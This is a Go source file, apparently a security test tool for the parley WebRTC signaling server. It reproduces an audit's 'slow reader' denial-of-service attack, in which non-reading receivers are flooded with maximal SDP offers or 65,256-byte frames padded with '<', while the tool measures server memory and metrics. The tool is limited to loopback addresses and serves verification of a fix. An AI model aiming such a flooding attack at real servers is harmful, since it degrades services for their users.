package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"math"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/parley-chat/parley/signaling/proto"
	"github.com/pion/webrtc/v4"
)

// The slow reader attack (issue 10, point 1): pairs whose receivers never
// read, their partners sending the largest signals the server forwards, as
// fast as it lets them, so that what the server holds for the receivers
// grows. The audit's version sends 65,256-byte frames of '<', which the
// server before the fix forwarded HTML-escaped at six times the size; the
// server after the fix refuses them (the cleaner rebuilds an SDP from the
// values WebRTC needs), so the strongest attack left sends the largest
// valid offers, stepping down a size whenever the per-session signal budget
// refuses one, and spends fresh sessions once a session's budget is gone.

type slowConfig struct {
	URL      string
	PID      int
	Metrics  string // parley's /metrics, for its counters (optional)
	Sources  int
	Pairs    int
	Duration time.Duration
	Payload  string  // offer or audit
	RcvBuf   int     // receive buffer of the receivers' sockets; 0: the kernel's default
	Rate     float64 // signals per second per sender; 0: 90% of the server's announced limit
	Timeout  time.Duration
	Out      io.Writer
}

const slowAbout = `Eight (-pairs) pairs whose receivers never read: the receivers connect (from -sources addresses,
without a cookie), join, and from then on only send next when their partner has gone; each sender
joins with one of them and sends signals at -rate until -duration is over. -payload audit sends the
audit's frame (an SDP whose attribute line holds 64,800 '<' characters: 65,256 bytes) again and
again; -payload offer sends the largest valid offer under the frame limit (pion's, a data channel and
up to 16 receive-only video sections) and a smaller one whenever the server refuses a size (bad_sdp,
or signal_budget: the session's signaling budget is spent), and once the smallest is refused the
sender leaves and a new session takes its place, as many as the server lets the addresses create.
A receiver the server drops is replaced. At the end the receivers read what waited for them.
With -pid: the server's resident memory (VmRSS sampled every 20 ms, and VmHWM) before and at its
peak during the attack; with -metrics (parley's /metrics on the admin listener): signals forwarded,
slow readers dropped, upgrades refused, and the peak of parley_queued_bytes (scraped every 100 ms;
left out for a server without that gauge, such as the one before the fix).`

func mainSlowReader(ctx context.Context, args []string, out io.Writer) error {
	var c slowConfig
	fs := flag.NewFlagSet("slowreader", flag.ContinueOnError)
	fs.StringVar(&c.URL, "url", "ws://127.0.0.1:8080/ws", "signaling WebSocket URL (loopback only)")
	fs.IntVar(&c.PID, "pid", 0, "server process id: its VmRSS and VmHWM from /proc (optional)")
	fs.StringVar(&c.Metrics, "metrics", "", "parley's Prometheus metrics, e.g. http://127.0.0.1:9090/metrics (optional)")
	fs.IntVar(&c.Sources, "sources", 2, "attacking addresses (127.0.1.1, 127.0.1.2, ...); each pair's receiver and sender use two of them")
	fs.IntVar(&c.Pairs, "pairs", 8, "pairs at once")
	fs.DurationVar(&c.Duration, "duration", 10*time.Second, "how long the senders send")
	fs.StringVar(&c.Payload, "payload", "offer", "what the senders send: offer (the largest valid offers) or audit (the audit's 65,256-byte frames of '<')")
	fs.IntVar(&c.RcvBuf, "rcvbuf", 4096, "receive buffer (SO_RCVBUF) of the receivers' sockets, so the kernel takes little of what waits; 0: the kernel's default")
	fs.Float64Var(&c.Rate, "rate", 0, "signals per second per sender (0: 90% of the server's welcome.limits.messagesPerSecond)")
	fs.DurationVar(&c.Timeout, "timeout", 10*time.Second, "bound on each dial and on the wait for a pairing")
	if err := parseFlags(fs, args, out, slowAbout); err != nil {
		return err
	}
	if err := loopbackURL(c.URL, "ws", "wss"); err != nil {
		return fmt.Errorf("-url: %w", err)
	}
	if c.Metrics != "" {
		if err := loopbackURL(c.Metrics, "http", "https"); err != nil {
			return fmt.Errorf("-metrics: %w", err)
		}
	}
	if c.Payload != "offer" && c.Payload != "audit" {
		return errors.New("-payload must be offer or audit")
	}
	if c.Sources < 1 || c.Pairs < 1 || c.Duration <= 0 || c.Rate < 0 || c.RcvBuf < 0 || c.Timeout <= 0 {
		return errors.New("-sources, -pairs, -duration and -timeout must be positive, -rate and -rcvbuf not negative")
	}
	c.Out = out
	_, err := runSlowReader(ctx, c)
	return err
}

// slowResult is what a run measured; the test checks it.
type slowResult struct {
	SenderSessions, ReceiverSessions int64
	Sent, SentBytes                  int64
	Refused                          map[string]int64 // the server's wire error codes to the senders
	DialRefused                      map[string]int64 // upgrades refused, by role and reason
	Errors                           map[string]int64
	ReceiversLost                    int64 // receivers the server dropped during the run
	// What the receivers read at the end: frames, of which signals, and
	// their bytes; the live ones after the run, the dropped ones when
	// they were found gone.
	DrainedFrames, DrainedSignals, DrainedBytes int64
	Base, Peak                                  procMem
	Server                                      map[string]float64 // deltas of parley's metrics
}

type slowAttack struct {
	cfg    slowConfig
	ladder [][]byte      // signal frames, largest first
	first  atomic.Int64  // the largest the server accepts as valid, once seen
	rate   atomic.Uint64 // the senders' rate (float64 bits), for the report

	pairMu sync.Mutex // one pairing at a time: a waiting sender meets a waiting receiver, never another sender

	senders, receivers, sent, sentBytes, lost   atomic.Int64
	drainedFrames, drainedSignals, drainedBytes atomic.Int64
	refused, dialRefused, errs                  tally

	liveMu sync.Mutex
	live   []*vconn // receivers still connected at the end
}

func runSlowReader(ctx context.Context, cfg slowConfig) (slowResult, error) {
	a := &slowAttack{cfg: cfg}
	var err error
	if cfg.Payload == "audit" {
		a.ladder = [][]byte{auditFrame()}
	} else if a.ladder, err = offerLadder(); err != nil {
		return slowResult{}, fmt.Errorf("making offers with pion: %w", err)
	}
	before, err := scrapeMetrics(ctx, cfg.Metrics)
	if err != nil {
		return slowResult{}, err
	}
	mem, err := watchMem(cfg.PID, 20*time.Millisecond)
	if err != nil {
		return slowResult{}, err
	}
	queued := watchGauge(cfg.Metrics, "parley_queued_bytes", 100*time.Millisecond)
	start := time.Now()
	actx, cancel := context.WithTimeout(ctx, cfg.Duration)
	var wg sync.WaitGroup
	for i := range cfg.Pairs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			a.slot(actx, i)
		}()
	}
	wg.Wait()
	cancel()
	elapsed := time.Since(start)
	base, peak, samples := mem.finish()
	queuedPeak, queuedSeen := queued.finish()
	after, err := scrapeMetrics(ctx, cfg.Metrics)
	if err != nil {
		return slowResult{}, err
	}
	// Now the receivers read what waited for them.
	var dwg sync.WaitGroup
	for _, c := range a.live {
		dwg.Add(1)
		go func() {
			defer dwg.Done()
			a.drain(c, time.Second)
			c.close()
		}()
	}
	dwg.Wait()

	res := slowResult{
		SenderSessions: a.senders.Load(), ReceiverSessions: a.receivers.Load(),
		Sent: a.sent.Load(), SentBytes: a.sentBytes.Load(),
		Refused: a.refused.snapshot(), DialRefused: a.dialRefused.snapshot(), Errors: a.errs.snapshot(),
		ReceiversLost: a.lost.Load(),
		DrainedFrames: a.drainedFrames.Load(), DrainedSignals: a.drainedSignals.Load(), DrainedBytes: a.drainedBytes.Load(),
		Base: base, Peak: peak, Server: map[string]float64{},
	}
	for key, name := range map[string]string{
		"forwarded":        "parley_signals_forwarded_total",
		"slow_dropped":     "parley_slow_readers_dropped_total",
		"upgrades_refused": "parley_connections_refused_total",
		"rate_limited":     "parley_rate_limited_total",
	} {
		if d, ok := metricDelta(before, after, name); ok {
			res.Server[key] = d
		}
	}
	if queuedSeen {
		res.Server["queued_peak_bytes"] = queuedPeak
	}
	a.report(res, elapsed, samples)
	return res, nil
}

// slot keeps one pair going: a receiver that never reads and, one after
// the other, senders that feed it.
func (a *slowAttack) slot(ctx context.Context, i int) {
	cfg := &a.cfg
	rsrc, ssrc := attackSource(i%cfg.Sources), attackSource((i+1)%cfg.Sources)
	var recv *vconn
	joined := false
	pause := func() {
		select {
		case <-ctx.Done():
		case <-time.After(500 * time.Millisecond):
		}
	}
	defer func() {
		if recv != nil {
			a.liveMu.Lock()
			a.live = append(a.live, recv)
			a.liveMu.Unlock()
		}
	}()
	for ctx.Err() == nil {
		if recv == nil {
			c, err := dialFresh(ctx, cfg.URL, rsrc, cfg.Timeout, cfg.RcvBuf)
			if err != nil {
				if ctx.Err() == nil {
					a.dialRefused.add("receiver " + dialKind(err))
					pause()
				}
				continue
			}
			a.receivers.Add(1)
			if err := c.prove(ctx); err != nil {
				c.close()
				continue
			}
			recv, joined = c, false
		}
		s, err := dialFresh(ctx, cfg.URL, ssrc, cfg.Timeout, 0)
		if err != nil {
			if ctx.Err() == nil {
				a.dialRefused.add("sender " + dialKind(err))
				pause()
			}
			continue
		}
		a.senders.Add(1)
		if err := s.prove(ctx); err != nil {
			s.close()
			continue
		}
		events := make(chan sendEvent, 64)
		go senderEvents(s, events)
		switch a.pair(ctx, recv, joined, s, events) {
		case pairedOK:
			joined = true
			if a.feed(ctx, s, events) == fedGone {
				// The server dropped the receiver: read what it still
				// has in its socket, and start a new one.
				a.lost.Add(1)
				a.drain(recv, time.Second)
				recv.close()
				recv = nil
			}
		case pairedNoReceiver:
			a.errs.add("receiver:not-matched")
			recv.close()
			recv = nil
		}
		s.close()
	}
}

type pairing int

const (
	pairedOK pairing = iota
	pairedNoReceiver
	pairedNoSender
)

// pair joins the receiver (or sends next, after a sender that went) and the
// sender, one pairing at a time, and waits until the sender is matched.
func (a *slowAttack) pair(ctx context.Context, recv *vconn, joined bool, s *vconn, events <-chan sendEvent) pairing {
	a.pairMu.Lock()
	defer a.pairMu.Unlock()
	var err error
	if joined {
		err = recv.send(nextFrame)
	} else {
		err = recv.sendJoin(joinFrame)
	}
	if err != nil {
		a.errs.add("receiver write:" + netErrKind(err))
		return pairedNoReceiver
	}
	if err := s.sendJoin(joinFrame); err != nil {
		a.errs.add("sender write:" + netErrKind(err))
		return pairedNoSender
	}
	t := time.NewTimer(min(a.cfg.Timeout, 3*time.Second))
	defer t.Stop()
	for {
		select {
		case ev := <-events:
			switch {
			case ev.matched:
				return pairedOK
			case ev.err != nil:
				a.errs.add("sender read:" + closeKind(ev.err))
				return pairedNoSender
			case ev.code != "":
				a.refused.add(ev.code)
			}
		case <-t.C:
			// Nobody to pair with: the receiver is gone without the
			// server having said so to a sender.
			return pairedNoReceiver
		case <-ctx.Done():
			return pairedNoSender
		}
	}
}

type fed int

const (
	fedEnd   fed = iota // the run is over
	fedSpent            // the server refused even the smallest signal
	fedDead             // the sender's connection ended
	fedGone             // the partner (the receiver) was dropped
)

// feed sends signals to the sender's partner at the attack's rate until the
// run ends, the sender is spent, or one of the two is gone.
func (a *slowAttack) feed(ctx context.Context, s *vconn, events <-chan sendEvent) fed {
	idx := int(a.first.Load())
	if idx >= len(a.ladder) {
		return fedSpent
	}
	rate := a.cfg.Rate
	if rate == 0 {
		// Under what the server announced in welcome, so that pacing
		// jitter never trips its limiter.
		if rate = underLimit * s.limits.MessagesPerSecond; rate <= 0 {
			rate = 18
		}
	}
	a.rate.Store(math.Float64bits(rate))
	interval := time.Duration(float64(time.Second) / rate)
	next := time.Now()
	t := time.NewTimer(0)
	defer t.Stop()
	<-t.C
	for {
		if ctx.Err() != nil {
			return fedEnd
		}
		frame := a.ladder[idx]
		if err := s.send(frame); err != nil {
			a.errs.add("sender write:" + netErrKind(err))
			return fedDead
		}
		a.sent.Add(1)
		a.sentBytes.Add(int64(len(frame)))
		next = next.Add(interval)
		t.Reset(time.Until(next))
	wait:
		for {
			select {
			case <-ctx.Done():
				return fedEnd
			case <-t.C:
				break wait
			case ev := <-events:
				switch {
				case ev.err != nil:
					if ctx.Err() == nil {
						a.errs.add("sender read:" + closeKind(ev.err))
					}
					return fedDead
				case ev.gone:
					return fedGone
				case ev.code == proto.CodeNotPaired:
					a.refused.add(ev.code)
					return fedGone
				case ev.code != "":
					a.refused.add(ev.code)
					if len(a.ladder) == 1 || ev.code == proto.CodeRateLimited {
						continue // the audit's attack sends the same frame whatever the answer
					}
					if ev.code != proto.CodeSignalBudget {
						// Not valid here at all: no later sender tries it.
						a.raiseFirst(idx + 1)
					}
					if idx++; idx >= len(a.ladder) {
						return fedSpent
					}
				}
			}
		}
	}
}

func (a *slowAttack) raiseFirst(i int) {
	for {
		cur := a.first.Load()
		if int64(i) <= cur || a.first.CompareAndSwap(cur, int64(i)) {
			return
		}
	}
}

// sendEvent is what a sender is told by the server.
type sendEvent struct {
	matched bool
	gone    bool   // partner-left or partner-reconnecting
	code    string // an error's wire code
	err     error  // the connection ended
}

func senderEvents(c *vconn, out chan<- sendEvent) {
	for {
		m, err := c.read()
		if err != nil {
			select {
			case out <- sendEvent{err: err}:
			default:
			}
			return
		}
		var ev sendEvent
		switch m.Type {
		case "matched":
			ev.matched = true
		case "partner-left", "partner-reconnecting":
			ev.gone = true
		case "error":
			ev.code = m.Code
		default:
			continue
		}
		select {
		case out <- ev:
		default: // nobody listens any more
		}
	}
}

// drain reads what waited for a receiver, until idle passes without a
// frame or the connection ends.
func (a *slowAttack) drain(c *vconn, idle time.Duration) {
	for {
		_ = c.ws.SetReadDeadline(time.Now().Add(idle))
		_, b, err := c.ws.ReadMessage()
		if err != nil {
			return
		}
		a.drainedFrames.Add(1)
		a.drainedBytes.Add(int64(len(b)))
		if bytes.HasPrefix(b, []byte(`{"type":"signal"`)) {
			a.drainedSignals.Add(1)
		}
	}
}

func (a *slowAttack) report(res slowResult, elapsed time.Duration, samples int) {
	w, cfg := a.cfg.Out, &a.cfg
	fmt.Fprintf(w, "slowreader (%s): %d pairs from %d addresses for %s, %.1f signals/s per sender, receivers' SO_RCVBUF %d\n",
		cfg.Payload, cfg.Pairs, cfg.Sources, elapsed.Round(time.Millisecond), math.Float64frombits(a.rate.Load()), cfg.RcvBuf)
	sizes := make([]string, 0, len(a.ladder))
	for _, f := range a.ladder {
		sizes = append(sizes, fmt.Sprint(len(f)))
	}
	fmt.Fprintf(w, "frames:            %s bytes (largest first)\n", strings.Join(sizes, ", "))
	fmt.Fprintf(w, "sessions:          %d receivers, %d senders; %d receivers dropped by the server\n", res.ReceiverSessions, res.SenderSessions, res.ReceiversLost)
	fmt.Fprintf(w, "sent:              %d signals, %.1f MiB\n", res.Sent, mib(res.SentBytes))
	printTally(w, "refused signals:", res.Refused)
	printTally(w, "refused upgrades:", res.DialRefused)
	printErrors(w, res.Errors)
	fmt.Fprintf(w, "receivers read:    %d frames, %d of them signals, %.1f MiB (what waited for them)\n", res.DrainedFrames, res.DrainedSignals, mib(res.DrainedBytes))
	if res.Peak.rss > 0 {
		fmt.Fprintf(w, "server rss:        %.1f MiB before, peak %.1f MiB (%+.1f MiB; %d samples); VmHWM %.1f MiB before, %.1f MiB after\n",
			mib(res.Base.rss), mib(res.Peak.rss), mib(res.Peak.rss-res.Base.rss), samples, mib(res.Base.hwm), mib(res.Peak.hwm))
	}
	keys := slices.Sorted(func(yield func(string) bool) {
		for k := range res.Server {
			if !yield(k) {
				return
			}
		}
	})
	for _, k := range keys {
		fmt.Fprintf(w, "server %-18s %.0f\n", k+":", res.Server[k])
	}
	fig := map[string]float64{
		"pairs": float64(cfg.Pairs), "sources": float64(cfg.Sources), "seconds": elapsed.Seconds(),
		"sender_sessions": float64(res.SenderSessions), "receiver_sessions": float64(res.ReceiverSessions),
		"sent": float64(res.Sent), "sent_bytes": float64(res.SentBytes), "receivers_dropped": float64(res.ReceiversLost),
		"drained_bytes": float64(res.DrainedBytes), "drained_signals": float64(res.DrainedSignals),
		"refused_signals": float64(sum(res.Refused)), "refused_upgrades": float64(sum(res.DialRefused)),
	}
	if res.Peak.rss > 0 {
		fig["rss_base_bytes"], fig["rss_peak_bytes"], fig["hwm_bytes"] = float64(res.Base.rss), float64(res.Peak.rss), float64(res.Peak.hwm)
	}
	for k, v := range res.Server {
		fig["server_"+k] = v
	}
	printResult(w, "slowreader-"+cfg.Payload, "parley", fig)
}

func printTally(w io.Writer, label string, m map[string]int64) {
	if len(m) == 0 {
		fmt.Fprintf(w, "%-19snone\n", label)
		return
	}
	keys := slices.Sorted(func(yield func(string) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	})
	parts := make([]string, 0, len(keys))
	for _, k := range keys {
		parts = append(parts, fmt.Sprintf("%s: %d", k, m[k]))
	}
	fmt.Fprintf(w, "%-19s%s\n", label, strings.Join(parts, "; "))
}

func sum(m map[string]int64) int64 {
	var n int64
	for _, v := range m {
		n += v
	}
	return n
}

// auditFrame is the audit's frame: a v1 signal of 65,256 bytes whose offer
// parses (pion's SDP parser, which the server before the fix used) and
// carries 64,800 '<' characters in one attribute line.
func auditFrame() []byte {
	const size, fill = 65256, 64800
	head := "v=0\r\no=- 1 1 IN IP4 0.0.0.0\r\ns=-\r\nt=0 0\r\nm=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\nc=IN IP4 0.0.0.0\r\na=mid:0\r\na=x:"
	frame := func(pad int) []byte {
		sdp := head + strings.Repeat("<", fill) + "\r\na=y:" + strings.Repeat("y", pad) + "\r\n"
		var b bytes.Buffer
		enc := json.NewEncoder(&b)
		enc.SetEscapeHTML(false)
		_ = enc.Encode(map[string]any{"type": "signal", "data": map[string]any{"sdp": map[string]string{"type": "offer", "sdp": sdp}}})
		return bytes.TrimSuffix(b.Bytes(), []byte("\n"))
	}
	f := frame(0)
	return frame(max(0, size-len(f)))
}

// offerLadder is a v1 signal frame of each valid offer size under the
// server's frame limit, largest first: pion's offers with a data channel
// and 16 down to 1 receive-only video sections (each section's codecs,
// feedback and extensions are what pion offers, all valid).
func offerLadder() ([][]byte, error) {
	var out [][]byte
	for v := 16; v >= 1; v-- {
		pc, err := webrtc.NewAPI().NewPeerConnection(webrtc.Configuration{})
		if err != nil {
			return nil, err
		}
		for range v {
			if _, err := pc.AddTransceiverFromKind(webrtc.RTPCodecTypeVideo, webrtc.RTPTransceiverInit{Direction: webrtc.RTPTransceiverDirectionRecvonly}); err != nil {
				pc.Close()
				return nil, err
			}
		}
		if _, err := pc.CreateDataChannel("chat", nil); err != nil {
			pc.Close()
			return nil, err
		}
		offer, err := pc.CreateOffer(nil)
		pc.Close()
		if err != nil {
			return nil, err
		}
		b, err := json.Marshal(map[string]any{"type": "signal", "data": map[string]any{"sdp": map[string]string{"type": "offer", "sdp": offer.SDP}}})
		if err != nil {
			return nil, err
		}
		if len(b) <= proto.MaxFrameBytes {
			out = append(out, b)
		}
	}
	if len(out) == 0 {
		return nil, errors.New("no offer fits a frame")
	}
	return out, nil
}
